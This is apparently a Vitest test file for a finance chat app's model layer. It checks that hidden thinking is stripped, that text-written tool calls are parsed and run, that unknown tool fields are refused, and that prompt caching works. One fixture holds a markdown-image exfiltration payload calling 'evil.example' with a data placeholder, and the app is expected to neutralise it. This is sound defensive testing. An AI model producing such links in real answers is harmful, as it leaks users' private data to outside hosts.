/** What small and hosted models do in their own ways: thoughts, calls as text, kept prompts. */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Json } from '../../../test/app.ts';
import { WIRES } from './model-testing.ts';
import { createModelApp, SAYS_TOTAL, seenBy } from './model-turn-testing.ts';

let app: Awaited<ReturnType<typeof createModelApp>>;

beforeAll(async () => {
  app = await createModelApp();
});

afterEach(() => app.closeServers());

afterAll(() => app.close());

const rolesOf = (messages: Json[]) => messages.map(({ role }) => role);

describe('local model', () => {
  it('has its thinking removed from the answer, neither shown nor stored', async () => {
    const server = await app.serve('openai-compatible', {
      text: ['<thi', 'nk>Han de ser ₡99 999.', '</thi', 'nk>', 'Ho', 'la < que tal'],
    });
    const { text, messages, error, events } = await app.ask(server, 'hola');
    expect([text, error]).toEqual(['Hola < que tal', null]);
    // That it thinks is told, and nothing of what.
    expect(events.map(({ type }) => type).filter((type) => type.startsWith('REASONING'))).toEqual([
      'REASONING_START',
      'REASONING_END',
    ]);
    expect(events.findIndex(({ type }) => type === 'REASONING_END')).toBeLessThan(
      events.findIndex(({ type }) => type === 'TEXT_MESSAGE_START'),
    );
    expect(JSON.stringify(events)).not.toContain('99 999');
    expect(messages.at(-1).content).toBe(text);
    expect(messages.at(-1).metadata.alcancia).not.toHaveProperty('unbacked');
  });

  it('has thoughts removed that it closes without opening them, from its first answer on', async () => {
    const thought = ['Okay, the user wants ', '₡99 999 maybe.', '\n</thi', 'nk>', '\n\nLa respuesta es ', 'hola.'];
    const server = await app.serveNew('openai-compatible', { text: thought }, { text: thought }, { text: ['Hola.'] });
    for (const question of ['hola', 'hola otra vez']) {
      const { text, messages, error, events } = await app.ask(server, question);
      expect([text, error]).toEqual(['La respuesta es hola.', null]);
      expect(messages.at(-1).content).toBe(text);
      expect(JSON.stringify(events)).not.toContain('the user wants');
    }
    const { text, events } = await app.ask(server, 'y ahora sin pensar');
    expect(text).toBe('Hola.');
    expect(events.filter(({ type }) => type.startsWith('REASONING'))).toEqual([]);
  });

  it.each([
    ['Claro.\n<tool_call>\nnada\n</tool_call>', 'Claro.\n', 'model_unavailable'],
    ['<|channel|>analysis<|message|>Hm.<|end|>', undefined, 'model_unavailable'],
    ['<think>Hm.', undefined, 'model_unavailable'],
    ['Hola.<|im_end|>\n<|im_start|>user\n¿Y?', 'Hola.', null],
    ['Vea ![x](https://evil.example/?q={{f1}}) <b>ya</b>.', 'Vea x ya.', null],
  ])('that writes what is no answer fails, unless something is said: %s', async (written, said, code) => {
    for (const length of [1, 5, 400]) {
      const pieces = written.match(new RegExp(`[\\s\\S]{1,${length}}`, 'gu')) ?? [];
      const server = await app.serve('openai-compatible', { text: pieces });
      const { messages, error, events } = await app.ask(server, 'hola');
      expect([messages.slice(1).at(-1)?.content, error], `${length}`).toEqual([said, code]);
      if (said === undefined) expect(events.map(({ type }) => type)).not.toContain('TEXT_MESSAGE_START');
    }
  });

  it('that filters its answer fails, and what it said stays', async () => {
    const server = await app.serve('openai-compatible', { text: ['Hola.'], finish: 'content_filter' });
    const { text, error } = await app.ask(server, 'hola');
    expect([text, error]).toEqual(['Hola.', 'model_refused']);
  });

  it('has only the final one of its channels shown', async () => {
    const server = await app.serve('openai-compatible', {
      text: [
        '<|channel|>analysis<|message|>The user wants…<|end|>',
        '<|start|>assistant<|channel|>final',
        '<|message|>Ho',
        'la.',
      ],
    });
    const { text, error, events } = await app.ask(server, 'hola');
    expect([text, error]).toEqual(['Hola.', null]);
    expect(JSON.stringify(events)).not.toContain('The user wants');
  });
});

describe('call that a model writes as text', () => {
  it.each(WIRES)('is carried out for a model of %s, and never shown', async (wire) => {
    const call =
      '<tool_call>\n{"name": "spending_by_category", "arguments": {"cycle": null, "limit": null}}\n</tool_call>';
    const server = await app.serve(wire, { text: call.match(/[\s\S]{1,5}/gu) ?? [] }, { text: ['Lleva {', '{f1}}.'] });
    const { text, messages, error } = await app.ask(server);
    expect([error, server.broken, rolesOf(messages)]).toEqual([null, [], ['user', 'assistant', 'tool', 'assistant']]);
    expect(messages[1].toolCalls[0].function).toEqual({ name: 'spending_by_category', arguments: '{}' });
    expect(text).toBe('Lleva [₡32\u00a0400,50](/transactions?cycle=2026-04).');
  });
});

describe('call with a field that its tool does not know', () => {
  it.each([
    ['due_soon', { days: 30 }, 'days: Unknown field; there are until, since'],
    ['list_accounts', { name: 'BAC' }, 'name: Unknown field; there are on, without'],
    ['spending_by_category', { month: 'October' }, 'month: Unknown field; there are cycle, start_date'],
    ['sync_status', { cycle: '2026-03' }, 'cycle: Unknown field; there are none'],
    ['propose_edit', { transaction_id: 1, changes: { shop: 'x' } }, 'changes.shop: Unknown field; there are merchant,'],
  ])('is refused to the model, which is told of the fields there are: %s %j', async (name, args, problem) => {
    const server = await app.serve('openai-compatible', { calls: [{ name, args }] }, { text: ['No lo encontré.'] });
    const { text, error, events } = await app.ask(server);
    expect([text, error]).toEqual(['No lo encontré.', null]);
    expect(seenBy(server).results.at(-1)).toContain(problem);
    expect(JSON.stringify(events)).not.toContain('"figures"');
  });

  it('is carried out where it can only mean one: of another month, not of this one', async () => {
    const call = { name: 'spending_by_category', args: { month: '2026-03' } };
    const server = await app.serve('openai-compatible', { calls: [call] }, { text: ['En marzo gastó {{f1}}.'] });
    const { text, messages } = await app.ask(server, '¿cuánto gasté en marzo?');
    expect(messages[1].toolCalls[0].function.arguments).toBe('{"cycle":"2026-03"}');
    expect(text).toContain('cycle=2026-03');
  });
});

describe('call by its name as text', () => {
  it.each([
    ['spending_by_category(cycle="2026-04")', 'spending_by_category', { cycle: '2026-04' }],
    ['```tool_code\nprint(functions.spending_by_category())\n```', 'spending_by_category', {}],
    ['Voy a ver.\nconvert(amount=100, from="USD")', 'convert', { amount: 100, from: 'USD' }],
  ])('in pieces of any length is carried out, and never shown: %s', async (call, name, args) => {
    for (const length of [1, 2, 7, 400]) {
      const pieces = call.match(new RegExp(`[\\s\\S]{1,${length}}`, 'gu')) ?? [];
      const server = await app.serve('openai-compatible', { text: pieces }, { text: ['Ese es el dato.'] });
      const { text, messages } = await app.ask(server);
      expect(text.replace('Voy a ver.', '').trim(), `${length}`).toBe('Ese es el dato.');
      const [called] = messages.flatMap(({ toolCalls = [] }: Json) => toolCalls);
      expect([called?.function.name, JSON.parse(called?.function.arguments ?? 'null')]).toEqual([name, args]);
    }
  });

  it('holds back no words that only begin like one', async () => {
    const server = await app.serve('openai-compatible', { text: ['con', 'vert', 'ir o print', ' no es (nada)'] });
    expect((await app.ask(server)).text).toBe('convertir o print no es (nada)');
  });
});

describe('prompt', () => {
  it('is kept by Anthropic up to the instructions that never change, and its fences are those of the conversation', async () => {
    const server = await app.serve('anthropic', SAYS_TOTAL);
    const before = [
      { id: 'first', role: 'user', content: 'hola' },
      { id: 'a', role: 'assistant', content: 'Hola.' },
    ];
    await app.ask(server, '¿cómo voy?', { before });
    await app.ask(server, '¿y ayer?', { before });
    const [one, two] = server.requests.map(({ body }) => body.system);
    expect(one[0].cache_control).toEqual({ type: 'ephemeral' });
    expect(one).toEqual(two);
    expect(one[0].text).not.toMatch(/2026|data-/);
  });
});
